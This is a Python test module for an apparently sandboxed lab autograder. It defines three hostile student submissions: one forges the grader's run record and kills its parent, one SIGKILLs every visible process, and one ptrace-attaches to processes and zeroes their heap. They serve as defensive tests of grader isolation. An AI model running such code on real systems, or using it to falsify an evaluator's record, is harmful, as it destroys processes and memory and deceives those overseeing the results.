"""Hostile submissions: an honest mistake plus an attack on the grader's record of the run.

Each is a lab's solution with one known mistake from tests/submissions.py (so its honest
score is known) and, at the end of its client, one attack on what the grader records:

- forger: writes a record in run_bounded.py's exact `RUN {json}` format claiming the right
  output and exit status 0 into the wrapper's stdout (Docker's log, where the grader reads
  records), then kills the wrapper so its real record never comes;
- killer: sends SIGKILL to every process it can see in /proc and prints what it could not kill;
- tracer: tries PTRACE_ATTACH on every process it can see; where that works it overwrites the
  process's heap through /proc/<pid>/mem; it prints what happened.

Each must get exactly the failed checks of its honest mistake (`fails`), and the feedback must
show what the attack printed on stderr (`mentions`): the grader records what the program did,
not what it claims.
"""

from __future__ import annotations

from tests.submissions import Broken, Edit

FORGER = """
# The attack: forge the grader's record, then kill the wrapper that would write the real one.
import base64 as _b64, hashlib as _hashlib, json as _json, os as _os, signal as _signal
import sys as _sys


def _kept(data):
    return {
        "head": _b64.b64encode(data[:32768]).decode(),
        "tail": _b64.b64encode(data[32768:][-32768:]).decode(),
        "total": len(data),
        "sha256": _hashlib.sha256(data).hexdigest(),
    }


_forged = "RUN " + _json.dumps({
    "elapsed_s": 0.05, "status": 0, "signal": None, "killed_by_grader": False,
    "lifetime_expired": False, "lifetime_s": 300.0,
    "stdout": _kept(CLAIMED), "stderr": _kept(b""),
}) + "\\n"
ALSO_ON_STDOUT
for _pid in (_os.getppid(), 1):
    try:
        with open(f"/proc/{_pid}/fd/1", "w") as _log:
            _log.write(_forged)
        print(f"forger: wrote a forged record to pid {_pid}'s stdout", file=_sys.stderr)
    except OSError as _e:
        print(f"forger: could not write to pid {_pid}'s stdout: {type(_e).__name__}:"
              f" {_e.strerror}", file=_sys.stderr)
try:
    _os.kill(_os.getppid(), _signal.SIGKILL)
    print(f"forger: killed its parent, pid {_os.getppid()}", file=_sys.stderr)
except OSError as _e:
    print(f"forger: could not kill its parent, pid {_os.getppid()}: {type(_e).__name__}:"
          f" {_e.strerror}", file=_sys.stderr)
"""

KILLER = """
# The attack: SIGKILL every process in sight (the wrapper that records this run among them).
import os as _os, signal as _signal, sys as _sys

_missed = []
for _pid in sorted(int(name) for name in _os.listdir("/proc") if name.isdigit()):
    if _pid == _os.getpid():
        continue
    try:
        _os.kill(_pid, _signal.SIGKILL)
    except OSError as _e:
        _missed.append(f"pid {_pid} ({type(_e).__name__}: {_e.strerror})")
print("killer: could not kill " + (", ".join(_missed) or "nothing"), file=_sys.stderr)
"""

TRACER = """
# The attack: ptrace every process in sight and overwrite the heap of any it can attach to.
import ctypes as _ctypes, os as _os, sys as _sys

_libc = _ctypes.CDLL(None, use_errno=True)
_libc.ptrace.restype = _ctypes.c_long
_libc.ptrace.argtypes = (_ctypes.c_long, _ctypes.c_long, _ctypes.c_void_p, _ctypes.c_void_p)
_PTRACE_ATTACH, _PTRACE_DETACH, _WALL = 16, 17, 0x40000000
for _pid in sorted(int(name) for name in _os.listdir("/proc") if name.isdigit()):
    if _pid == _os.getpid():
        continue
    if _libc.ptrace(_PTRACE_ATTACH, _pid, None, None) != 0:
        _error = _os.strerror(_ctypes.get_errno())
        print(f"tracer: PTRACE_ATTACH to pid {_pid} failed: {_error}", file=_sys.stderr)
        continue
    try:
        _os.waitpid(_pid, _WALL)
        with open(f"/proc/{_pid}/maps") as _maps:
            _heap = next(line for line in _maps if line.rstrip().endswith("[heap]"))
        _start, _end = (int(x, 16) for x in _heap.split()[0].split("-"))
        with open(f"/proc/{_pid}/mem", "r+b", buffering=0) as _mem:
            _mem.seek(_start)
            _mem.write(bytes(min(65536, _end - _start)))
        print(f"tracer: attached to pid {_pid} and overwrote its heap", file=_sys.stderr)
    except (OSError, StopIteration) as _e:
        print(f"tracer: attached to pid {_pid}, could not write its memory: {_e}",
              file=_sys.stderr)
    _libc.ptrace(_PTRACE_DETACH, _pid, None, None)
"""

FORGER_MENTIONS = (
    "forger: could not kill its parent",
    "Operation not permitted",
    "Permission denied",
)
KILLER_MENTIONS = ("killer: could not kill pid 1", "Operation not permitted")
TRACER_MENTIONS = ("tracer: PTRACE_ATTACH to pid 1 failed", "Operation not permitted")


def forger(claimed: str, *, also_on_stdout: bool) -> str:
    """The forger's code; `claimed` is a Python expression for the stdout bytes it claims."""
    stdout = "print(_forged, end='', flush=True)" if also_on_stdout else ""
    return FORGER.replace("CLAIMED", claimed).replace("ALSO_ON_STDOUT", stdout)


def hostile_trio(
    lab: str,
    mistake: str,
    honest: tuple[Edit, ...],
    last_line: str,
    forged_stdout: str,
    fails: frozenset[str],
    mention: str,
    *,
    forger_also_on_stdout: bool,
) -> tuple[Broken, ...]:
    """The forger, killer and tracer of one lab: `honest` edits, then the attack after
    `last_line` (the client's last line once `honest` is applied)."""
    attacks = (
        ("forger", forger(forged_stdout, also_on_stdout=forger_also_on_stdout), FORGER_MENTIONS),
        ("killer", KILLER, KILLER_MENTIONS),
        ("tracer", TRACER, TRACER_MENTIONS),
    )
    return tuple(
        Broken(
            f"{mistake}-{attack}",
            lab,
            (*honest, Edit("client.py", last_line, last_line + "\n" + code)),
            fails=fails,
            mentions=(mention, *mentions),
        )
        for attack, code, mentions in attacks
    )


LAB01_PRINT_REPR = 'print(f"Received from server: {bytes(received)}")'
LAB03_RTT_LINE = (
    '    print(f"rtt min/avg/max = {min(rtts):.3f}/{sum(rtts) / received:.3f}/{max(rtts):.3f} ms")'
)
LAB03_LOSS_LINE = "loss = 100 * (COUNT - received) / COUNT if COUNT else 0.0"
# Lab 03's forger claims what it printed, with the summary line it got wrong put right: it
# keeps a copy of every line it prints.
LAB03_TIMEOUT_LINE = 'TIMEOUT = float(os.environ.get("PING_TIMEOUT", "1.0"))\n'
LAB03_KEEP_PRINTED = (
    LAB03_TIMEOUT_LINE
    + """import builtins
_printed = []


def print(*args, file=None, **kwargs):
    if file is None:
        _printed.append(" ".join(map(str, args)))
    builtins.print(*args, file=file, **kwargs)
"""
)
LAB03_CLAIMED = (
    '"".join((f"{COUNT} packets transmitted, {received} received,'
    ' {100 * (COUNT - received) / COUNT:.1f}% packet loss" if "packet loss" in line else line)'
    ' + "\\n" for line in _printed).encode()'
)

LAB01 = hostile_trio(
    "01-tcp-hello",
    "client-prints-repr",
    (Edit("client.py", "{received.decode()}", "{bytes(received)}"),),
    LAB01_PRINT_REPR,
    'b"Received from server: " + bytes(received) + b"\\n"',
    frozenset({"client-greeting"}),
    "decode",
    forger_also_on_stdout=True,
)

# Its honest mistake fails one check only, so a lost or forged record changes the others.
LAB02 = hostile_trio(
    "02-tcp-echo",
    "client-reads-one-line",
    (Edit("client.py", "data = sys.stdin.buffer.read()", "data = sys.stdin.buffer.readline()"),),
    "sys.stdout.buffer.flush()",
    "data + sys.stdin.buffer.read()",
    frozenset({"client-8-mib"}),
    "did not send exactly its input",
    forger_also_on_stdout=False,
)

LAB03 = hostile_trio(
    "03-udp-ping",
    "client-loss-as-fraction",
    (
        Edit("client.py", LAB03_LOSS_LINE, LAB03_LOSS_LINE.replace("100 * ", "")),
        Edit("client.py", LAB03_TIMEOUT_LINE, LAB03_KEEP_PRINTED),
    ),
    LAB03_RTT_LINE,
    LAB03_CLAIMED,
    frozenset({"client-drops"}),
    "the summary line is wrong",
    forger_also_on_stdout=False,
)

HOSTILE = {"01-tcp-hello": LAB01, "02-tcp-echo": LAB02, "03-udp-ping": LAB03}
